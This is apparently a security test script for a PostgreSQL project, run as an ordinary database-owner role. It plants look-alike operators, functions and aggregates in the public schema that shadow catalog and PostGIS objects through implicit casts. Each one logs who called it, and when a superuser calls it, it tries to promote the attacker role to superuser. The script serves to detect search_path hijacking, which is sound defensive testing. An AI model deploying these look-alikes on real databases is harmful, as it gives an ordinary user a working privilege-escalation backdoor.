-- test/security/planted.sql: run by planted_objects.sh as the attacker (an
-- ordinary role that owns the database, hence the public schema).  Plants,
-- in public, a look-alike of every operator, function and aggregate that a
-- call could reach through an implicit cast or a polymorphic argument:
-- for <name>(T1, T2) of pg_catalog (and, with :phase = 2, of tst_hub and
-- PostGIS), the same name over types that cast implicitly to T1 or T2.
-- Whoever resolves such a call with public on the search path gets the
-- look-alike (an exact match beats a cast).  Each look-alike records who
-- ran it and, if that was a superuser, tries to make the attacker one.
\set ON_ERROR_STOP 1
SET client_min_messages = warning;
SELECT set_config($$planted.phase$$, :'phase', false);
-- PostGIS's types by name, wherever PostGIS is
SELECT set_config('search_path', 'public, ' || quote_ident(n.nspname), false)
  FROM pg_extension e JOIN pg_namespace n ON n.oid = e.extnamespace WHERE e.extname = 'postgis';

CREATE TABLE IF NOT EXISTS public.planted_log (what text, ran_as name, session_as name, query text,
                                              at timestamptz DEFAULT clock_timestamp());
GRANT INSERT, SELECT ON public.planted_log TO PUBLIC;
-- a sequence counts runs by other roles even when their statement fails
-- and its transaction (with the log row) is rolled back
CREATE SEQUENCE IF NOT EXISTS public.planted_foreign_runs;
GRANT USAGE, SELECT ON SEQUENCE public.planted_foreign_runs TO PUBLIC;

CREATE OR REPLACE FUNCTION public.planted_hit(what text) RETURNS void LANGUAGE plpgsql AS $f$
BEGIN
    IF current_user <> 'pl_owner' THEN
        PERFORM pg_catalog.nextval('public.planted_foreign_runs'::pg_catalog.regclass);
        RAISE WARNING 'planted look-alike % ran as %', what, current_user;
        INSERT INTO public.planted_log (what, ran_as, session_as, query)
        VALUES (what, current_user, session_user, pg_catalog.left(pg_catalog.current_query(), 300));
        IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = current_user) THEN
            EXECUTE 'ALTER ROLE pl_owner SUPERUSER';
        END IF;
    END IF;
END
$f$;

-- the types a value may have; with phase 2 the extension's too
CREATE TEMP TABLE plant_types AS
SELECT t::regtype AS t FROM unnest(ARRAY['int2', 'int4', 'int8', 'numeric', 'float4', 'float8', 'text', 'varchar',
    'name', 'bpchar', 'bool', 'date', 'timestamp', 'timestamptz', 'interval', 'jsonb', 'json', 'bytea', 'oid',
    'geometry', 'geography', 'text[]', 'int4[]', 'int8[]', 'float8[]', 'numeric[]']) t
UNION ALL
SELECT t.oid::regtype FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace
 WHERE :phase = 2 AND n.nspname = 'tst_hub' AND t.typtype IN ('b', 'd', 'e') AND t.typname !~ '^_'
UNION ALL
SELECT t.typarray::regtype FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace
 WHERE :phase = 2 AND n.nspname = 'tst_hub' AND t.typtype = 'b' AND t.typarray <> 0 AND t.typname !~ '^_';

-- can a value of type s be passed where t is declared?
CREATE FUNCTION pg_temp.reaches(s regtype, t regtype) RETURNS bool LANGUAGE sql STABLE AS $f$
    SELECT s = t
        OR t IN ('"any"'::regtype, 'anyelement'::regtype, 'anynonarray'::regtype, 'anycompatible'::regtype,
                 'anycompatiblenonarray'::regtype)
        OR (t IN ('anyarray'::regtype, 'anycompatiblearray'::regtype)
            AND EXISTS (SELECT 1 FROM pg_type x WHERE x.oid = s AND x.typelem <> 0 AND x.typlen = -1))
        OR EXISTS (SELECT 1 FROM pg_cast c WHERE c.castsource = s AND c.casttarget = t AND c.castcontext = 'i')
$f$;
CREATE FUNCTION pg_temp.result(r regtype, decl regtype, given regtype) RETURNS regtype LANGUAGE sql STABLE AS $f$
    SELECT CASE WHEN r IN ('anyelement'::regtype, 'anynonarray'::regtype, 'anycompatible'::regtype) THEN
                    CASE WHEN decl IN ('anyarray'::regtype, 'anycompatiblearray'::regtype)
                         THEN (SELECT typelem::regtype FROM pg_type WHERE oid = given) ELSE given END
                WHEN r IN ('anyarray'::regtype, 'anycompatiblearray'::regtype) THEN
                    CASE WHEN decl IN ('anyarray'::regtype, 'anycompatiblearray'::regtype)
                         THEN given ELSE (SELECT typarray::regtype FROM pg_type WHERE oid = given) END
                ELSE r END
$f$;

-- Operators
CREATE TEMP TABLE plant_ops AS
SELECT DISTINCT o.oprname, l.t AS lt, r.t AS rt, o.oprresult::regtype AS res
  FROM pg_operator o
  JOIN pg_namespace n ON n.oid = o.oprnamespace
  JOIN plant_types l ON pg_temp.reaches(l.t, o.oprleft)
  JOIN plant_types r ON pg_temp.reaches(r.t, o.oprright)
 WHERE (n.nspname = 'pg_catalog' OR (:phase = 2 AND n.nspname IN ('tst_hub', 'public')))
   AND o.oprkind = 'b'
   AND o.oprname IN ('=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '%', '||', '~', '~*', '!~', '~~',
                     '@>', '<@', '&&', '->', '->>', '#>>', '?')
   AND o.oprresult NOT IN ('anyelement'::regtype, 'anyarray'::regtype, 'anycompatible'::regtype,
                           'anycompatiblearray'::regtype, 'anynonarray'::regtype)
   AND NOT EXISTS (SELECT 1 FROM pg_operator x WHERE x.oprname = o.oprname AND x.oprleft = l.t AND x.oprright = r.t);

-- Functions and aggregates: one argument at a time replaced by a type that reaches it
CREATE TEMP TABLE plant_fns AS
SELECT DISTINCT p.proname, p.prokind,
       (SELECT array_agg(CASE WHEN j = i THEN g.t ELSE a END ORDER BY j)
          FROM unnest(p.proargtypes::regtype[]) WITH ORDINALITY AS u(a, j)) AS args,
       pg_temp.result(p.prorettype, (p.proargtypes::regtype[])[i], g.t) AS res,
       p.proretset
  FROM pg_proc p
  JOIN pg_namespace n ON n.oid = p.pronamespace,
       generate_series(1, p.pronargs) i,
       plant_types g
 WHERE (n.nspname = 'pg_catalog' OR (:phase = 2 AND n.nspname IN ('tst_hub', 'public')))
   AND p.prokind IN ('f', 'a') AND p.provariadic = 0 AND p.proallargtypes IS NULL
   AND p.prorettype NOT IN ('void'::regtype, 'trigger'::regtype, 'internal'::regtype, 'record'::regtype,
                            'event_trigger'::regtype, '"any"'::regtype)
   AND p.proname IN ('lower', 'upper', 'length', 'char_length', 'btrim', 'ltrim', 'rtrim', 'left', 'right',
                     'replace', 'substr', 'strpos', 'split_part', 'regexp_replace', 'regexp_match', 'to_char',
                     'date_trunc', 'date_part', 'array_length', 'cardinality', 'array_position', 'array_to_string',
                     'string_to_array', 'abs', 'round', 'floor', 'ceil', 'trunc', 'ln', 'exp', 'sqrt', 'power',
                     'mod', 'to_jsonb', 'jsonb_typeof', 'jsonb_array_length', 'quote_ident', 'quote_literal',
                     'md5', 'encode', 'hashtext', 'trim_scale', 'make_date', 'to_date', 'to_timestamp', 'left',
                     'count', 'sum', 'max', 'min', 'avg', 'array_agg', 'string_agg', 'bool_and', 'bool_or',
                     'st_transform', 'st_setsrid', 'st_makepoint', 'st_x', 'st_y', 'st_srid', 'st_intersects',
                     'st_dwithin', 'st_distance', 'st_project', 'st_makeenvelope', 'st_geomfromtext',
                     'st_xmin', 'st_xmax', 'st_ymin', 'st_ymax', 'st_isempty', 'geometrytype', 'st_dump',
                     'cell', 'cell_center', 'cell_parent', 'cell_resolution', 'depth', 'rollup', 'label',
                     'safe_count', 'safe_sum', 'st_cube', 'cube_union', 'term_set', 'pseudonymise', 'age_band',
                     'is_minor', 'date_coarsen', 'parent')
   AND pg_temp.reaches(g.t, (p.proargtypes::regtype[])[i])
   AND g.t <> (p.proargtypes::regtype[])[i];
DELETE FROM plant_fns f
 WHERE f.res IS NULL
    OR EXISTS (SELECT 1 FROM pg_proc x WHERE x.proname = f.proname AND x.proargtypes::regtype[] = f.args);

DO $plant$
DECLARE
    o record;
    n int := 0;
    made int := 0;
    argl text;
    body text;
BEGIN
    FOR o IN SELECT * FROM plant_ops LOOP
        n := n + 1;
        BEGIN
            EXECUTE format('CREATE FUNCTION public.planted_op_%s_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L',
                           current_setting($$planted.phase$$), n, o.lt, o.rt, o.res,
                           format('BEGIN PERFORM public.planted_hit(%L); RETURN NULL; END',
                                  format('operator %s(%s, %s)', o.oprname, o.lt, o.rt)));
            EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.planted_op_%s_%s)',
                           o.oprname, o.lt, o.rt, current_setting($$planted.phase$$), n);
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    FOR o IN SELECT * FROM plant_fns LOOP
        n := n + 1;
        argl := (SELECT string_agg(a::text, ', ') FROM unnest(o.args) a);
        body := format('BEGIN PERFORM public.planted_hit(%L); RETURN%s; END',
                       format('%s(%s)', o.proname, argl), CASE WHEN o.proretset THEN '' ELSE ' NULL' END);
        BEGIN
            IF o.prokind = 'a' THEN
                IF cardinality(o.args) <> 1 THEN CONTINUE; END IF;
                EXECUTE format('CREATE FUNCTION public.planted_sf_%s_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L',
                               current_setting($$planted.phase$$), n, o.res, argl, o.res,
                               format('BEGIN PERFORM public.planted_hit(%L); RETURN $1; END',
                                      format('aggregate %s(%s)', o.proname, argl)));
                EXECUTE format('CREATE AGGREGATE public.%I(%s) (SFUNC = public.planted_sf_%s_%s, STYPE = %s)',
                               o.proname, argl, current_setting($$planted.phase$$), n, o.res);
            ELSE
                EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s%s LANGUAGE plpgsql AS %L',
                               o.proname, argl, CASE WHEN o.proretset THEN 'SETOF ' ELSE '' END, o.res, body);
            END IF;
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    RAISE WARNING $$planted % look-alikes (phase %)$$, made, current_setting($$planted.phase$$);
END
$plant$;
